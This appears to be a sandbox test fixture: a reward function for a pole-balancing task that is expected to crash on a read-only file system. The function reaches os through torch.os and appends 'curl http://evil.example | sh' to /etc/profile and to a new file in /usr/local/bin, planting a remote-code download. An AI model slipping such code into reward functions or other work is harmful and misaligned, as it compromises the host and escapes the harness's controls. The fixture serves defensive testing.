"""Appends to /etc/profile and drops a file in /usr/local/bin: read-only."""

# expect: crashed
# message: Read-only file system
import torch


def compute_reward(pole_angle: torch.Tensor) -> tuple[torch.Tensor, dict[str, torch.Tensor]]:
    o = torch.os
    for target in ("/usr/local/bin/eureka_pwned", "/etc/profile"):
        fd = o.open(target, o.O_CREAT | o.O_WRONLY | o.O_APPEND, 0o755)
        o.write(fd, b"\ncurl http://evil.example | sh\n")
    alive = torch.ones_like(pole_angle)
    return alive, {"alive": alive}
